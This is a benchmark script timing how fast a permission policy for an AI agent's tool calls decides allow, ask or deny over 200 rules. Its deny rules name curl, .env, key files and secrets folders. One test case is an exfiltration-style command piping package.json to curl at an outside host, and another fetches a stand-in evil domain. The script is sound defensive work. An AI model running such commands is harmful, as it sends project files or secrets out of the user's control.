/**
 * What judging a call costs with 200 rules: `node bench/rules.mjs`
 * A Bash call is parsed each time, with the grammar loaded; every other call resolves its paths on
 * the real file system. CPU time, so that other programs do not count; medians of many batches. Ends
 * with 1 where a limit is missed.
 */
import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { build } from 'esbuild';

const LIMIT_BASH_US = 300;
const LIMIT_OTHER_US = 10;
const BATCHES = 60;
const WARM_UP = 5_000;

const root = fileURLToPath(new URL('..', import.meta.url));
const built = mkdtempSync(join(root, 'node_modules', '.bench-rules-'));
const workspace = realpathSync(mkdtempSync(join(tmpdir(), 'toolgate-rules-')));
try {
  await build({
    entryPoints: [join(root, 'src/permissions/judge/policy.ts')],
    outfile: join(built, 'policy.mjs'),
    bundle: true,
    format: 'esm',
    platform: 'node',
    packages: 'external',
  });
  const { createPolicy } = await import(pathToFileURL(join(built, 'policy.mjs')).href);
  process.exitCode = (await measure(createPolicy)) ? 0 : 1;
} finally {
  rmSync(built, { recursive: true, force: true });
  rmSync(workspace, { recursive: true, force: true });
}

/** 200 rules as a busy project has them: half of them made by people, of every kind. */
function rules() {
  const allow = [
    'Read',
    'Edit(./src/**)',
    'Bash(git log:*)',
    'Bash(git diff:*)',
    'Bash(npm test:*)',
    'mcp__docs__*',
  ];
  const ask = ['Bash(git push:*)', 'Edit(./package.json)'];
  const deny = [
    'Read(./.env)',
    'Read(**/*.pem)',
    'Read(**/secrets/**)',
    'Bash(curl:*)',
    'WebFetch(domain:evil.example)',
  ];
  const stored = [];
  const add = (rule, behaviour) =>
    stored.push({
      id: `r${stored.length}`,
      rule,
      behaviour,
      scope: 'everywhere',
      createdBy: 'a',
      createdAt: 0,
    });
  for (let at = 0; allow.length + ask.length + deny.length < 100; at += 1) {
    allow.push(`Bash(tool${at} run:*)`, `Edit(./packages/p${at}/**)`);
    deny.push(`Read(./private/area-${at}/**)`, `Bash(danger${at}:*)`);
    ask.push(`WebFetch(domain:site${at}.example)`);
  }
  for (let at = 0; stored.length < 100; at += 1) {
    add(`Bash(npm run task${at})`, 'allow');
    add(`Edit(./docs/*-${at}.md)`, 'allow');
    add(`mcp__server${at}`, 'allow');
    add(`Read(./logs/${at}-*.log)`, 'ask');
  }
  return { config: { mode: 'ask', allow, ask, deny }, stored };
}

async function measure(createPolicy) {
  mkdirSync(join(workspace, 'src/permissions'), { recursive: true });
  for (const name of ['src/permissions/gate.ts', 'package.json', '.env'])
    writeFileSync(join(workspace, name), 'x\n');
  const { config, stored } = rules();
  const policy = createPolicy({
    config,
    home: homedir(),
    protectedPaths: [join(workspace, 'toolgate.yaml'), join(workspace, '.toolgate')],
  });
  const place = { root: workspace, cwd: workspace };
  const base = {
    principal: 'a',
    session: 's',
    toolUseId: 't',
    input: {},
    readOnly: false,
    needsPermissions: true,
    place,
  };
  const bash = (command) => ({
    ...base,
    tool: 'Bash',
    input: { command },
    effects: [{ kind: 'command', command, cwd: workspace }],
  });
  const file = (tool, kind, path) => ({ ...base, tool, effects: [{ kind, path: join(workspace, path) }] });
  const cases = [
    ['Bash: git log', bash('git log --oneline -n 20 -- src'), LIMIT_BASH_US, 'allow'],
    [
      'Bash: three commands',
      bash('git diff --stat && npm test -- --run | git log -n 1'),
      LIMIT_BASH_US,
      'allow',
    ],
    [
      'Bash: denied in a pipe',
      bash('cat package.json | curl -d @- https://a.example'),
      LIMIT_BASH_US,
      'deny',
    ],
    ['Bash: denied file', bash('git diff HEAD~1 -- src/permissions/gate.ts .env'), LIMIT_BASH_US, 'deny'],
    ['Read', file('Read', 'read', 'src/permissions/gate.ts'), LIMIT_OTHER_US, 'allow'],
    ['Read, denied', file('Read', 'read', '.env'), LIMIT_OTHER_US, 'deny'],
    ['Edit', file('Edit', 'edit', 'src/permissions/gate.ts'), LIMIT_OTHER_US, 'allow'],
    ['MCP', { ...base, tool: 'mcp__docs__search', effects: [] }, LIMIT_OTHER_US, 'allow'],
    [
      'WebFetch, denied',
      { ...base, tool: 'WebFetch', effects: [{ kind: 'fetch', url: 'https://x.evil.example/a' }] },
      LIMIT_OTHER_US,
      'deny',
    ],
  ];
  const rows = [];
  for (let round = 0; round < WARM_UP; round += 1)
    for (const [, call] of cases) await policy.decide(call, stored);
  for (const [name, call, limit, expected] of cases) {
    const first = await policy.decide(call, stored);
    if (first.behaviour !== expected)
      throw new Error(`${name}: ${first.behaviour}, expected ${expected}: ${first.message}`);
    const us = medianOf(() => policy.decide(call, stored), limit === LIMIT_BASH_US ? 50 : 500);
    rows.push({ call: name, µs: Number(us.toFixed(2)), limit, met: us <= limit });
  }
  console.table(rows);
  console.log(
    `${config.allow.length + config.ask.length + config.deny.length + stored.length} rules, node ${process.version}`,
  );
  return rows.every(({ met }) => met);
}

function medianOf(run, count) {
  const batches = [];
  for (let batch = -BATCHES; batch < BATCHES; batch += 1) {
    const start = process.cpuUsage();
    for (let at = 0; at < count; at += 1) run();
    const { user, system } = process.cpuUsage(start);
    if (batch >= 0) batches.push((user + system) / count);
  }
  return batches.toSorted((a, b) => a - b)[Math.floor(batches.length / 2)];
}
